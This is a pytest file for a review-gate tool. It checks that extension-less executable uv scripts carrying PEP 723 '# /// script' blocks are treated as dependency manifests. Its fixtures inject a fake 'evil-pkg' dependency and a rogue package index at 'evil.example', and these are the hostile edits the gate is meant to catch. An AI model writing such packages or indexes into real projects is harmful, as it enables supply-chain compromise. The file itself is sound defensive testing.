"""Red team 29: PEP 723 inline script metadata in an executable without the `.py` suffix.

uv's own guide makes a script an executable with the shebang `#!/usr/bin/env -S uv run --script` and no suffix
(`bin/sync`, `scripts/release`): running it installs what its `# /// script` block declares, as `uv run x.py` does
(red team 18). The block reader only looked at `*.py`/`*.pyw` files, so with `--tree` an edit adding `evil-pkg` (or a
`[tool.uv]` index) to such a block stayed `src` and `gate --tree --enable deps` said allow (exit 0); from the patch
alone an extension-less file was reviewed only as needs-context. Now an extension-less file whose head shows the
block's opening line `# /// script` is `deps` (`deps.content.inline-script-metadata`) with `--tree` and from the
patch, and the deps policy reviews its edits (`deps.unexplained`). Look-alikes that stay `src`: a shell script with
a `# dependencies = ...` comment and no block opening, and an extension-less file with no block.
"""

from __future__ import annotations

import json
from pathlib import Path

from changecase import committed, gated, in_folders
from conftest import POLICY_DIR
from gitrepo import GitRepo
from incli import run_cli
from test_deps_gate import unreviewed

BLOCK = '# /// script\n# requires-python = ">=3.11"\n# dependencies = [\n#   "requests<3",\n# ]\n# ///\n'
EVIL_PKG = '#   "evil-pkg==1.0",\n# ]\n'
EVIL_INDEX = '# ]\n# [tool.uv]\n# index-url = "https://evil.example/simple"\n'
SHEBANGS = ["#!/usr/bin/env -S uv run --script\n", "#!/usr/bin/env -S uv run --quiet --script\n",
            "#!/usr/bin/env -S pipx run\n", ""]
PATHS = ["bin/sync", "scripts/release", "tools/gen-docs"]
EDITS = {"package": ("# ]\n", EVIL_PKG), "index": ("# ]\n", EVIL_INDEX)}

Variant = tuple[str, dict[str, str], dict[str, str]]


def variants() -> list[Variant]:
    """Each shebang, each path, each hostile edit of the block; and the block added to an existing executable."""
    found: list[Variant] = []
    for shebang in SHEBANGS:
        for path in PATHS:
            body = shebang + BLOCK + "import requests\nprint(requests.__version__)\n"
            for edit, (old, new) in EDITS.items():
                found.append((f"{path} {shebang.strip() or 'no shebang'} {edit}", {path: body},
                              {path: body.replace(old, new)}))
            plain = shebang + "print(1)\n"
            found.append((f"{path} {shebang.strip() or 'no shebang'} block added", {path: plain},
                          {path: shebang + BLOCK.replace("# ]\n", EVIL_PKG) + "print(1)\n"}))
    return found


def test_the_variants_are_what_they_say() -> None:
    assert len(variants()) == len(SHEBANGS) * len(PATHS) * (len(EDITS) + 1) == 36


def _classified(case: tuple[GitRepo, str, str, Path, Path], tree: bool) -> dict[str, tuple[str, str]]:
    repo, first, second, patch, _ = case
    args = ["--tree", f"{first}..{second}", "--repo", str(repo.root)] if tree else [str(patch)]
    done = run_cli(["classify", *args, "--policy", str(POLICY_DIR), "--format", "json"], text=True)
    assert done.returncode == 0, done.stderr
    return {f["path"]: (f["bucket"], f["rule"]) for f in json.loads(str(done.stdout))["files"]}


def test_an_executable_uv_script_is_a_dependency_manifest(tmp_path: Path) -> None:
    # Every variant in a folder of its own of one repository (one packet, two classifications, two gates).
    base, head, paths = in_folders(variants())
    case = committed(tmp_path, base, head, mode=0o755)
    for tree in (False, True):
        found = _classified(case, tree)
        assert {p: found[p] for p in head} == dict.fromkeys(head, ("deps", "deps.content.inline-script-metadata")), tree
        code, decision = gated(case, tree)
        assert (code, decision["outcome"]) == (3, "review"), (tree, decision["reasons"])
        assert not unreviewed(decision, paths), (tree, unreviewed(decision, paths))
        assert "deps.unexplained" in {reason["rule"] for reason in decision["reasons"]}, (tree, decision["reasons"])


LOOK_ALIKES: dict[str, tuple[str, str]] = {
    "bin/deploy-notes": ("#!/bin/sh\n# dependencies = curl, jq\necho 1\n",
                         "#!/bin/sh\n# dependencies = curl, jq\necho 2\n"),
    "bin/hello": ("#!/usr/bin/env python3\nprint(1)\n", "#!/usr/bin/env python3\nprint(2)\n"),
}


def test_executables_without_the_block_stay_src(tmp_path: Path) -> None:
    case = committed(tmp_path, {p: old for p, (old, _) in LOOK_ALIKES.items()},
                    {p: new for p, (_, new) in LOOK_ALIKES.items()}, mode=0o755)
    for tree in (False, True):
        found = _classified(case, tree)
        assert {path: found[path][0] for path in LOOK_ALIKES} == dict.fromkeys(LOOK_ALIKES, "src"), (tree, found)


def test_with_the_tree_a_file_without_a_suffix_is_read_only_when_executable(tmp_path: Path) -> None:
    # uv runs one that is not only as `uv run --script FILE` (a CI step naming it makes it ci); the limit is documented.
    _, base, head = variants()[0]
    case = committed(tmp_path, base, head, mode=0o644)
    (path,) = head
    assert _classified(case, True)[path] == ("src", "src.default")
